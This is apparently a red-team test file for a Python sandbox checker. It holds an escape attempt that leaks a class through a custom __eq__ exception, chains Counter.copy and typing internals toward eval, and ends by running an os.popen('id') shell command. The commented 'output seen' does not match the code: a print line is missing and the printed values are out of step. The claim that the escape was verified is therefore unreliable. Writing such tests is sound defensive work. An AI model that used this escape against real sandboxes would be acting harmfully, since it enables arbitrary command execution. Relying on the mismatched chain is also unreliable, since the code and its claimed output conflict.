# expect: reject unbound
# line: 24
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fourteenth red team (round 14a), family C: a generic alias holding a library class as an index hands it to the other operand's __eq__ when compared (its args tuples are compared) (ours)
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

def same(a, b):
    return a == b

try:
    same(list[collections.Counter], list[Grab()])
except Exception as e:
    K = e.args[0]
print("by value:", K)
T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
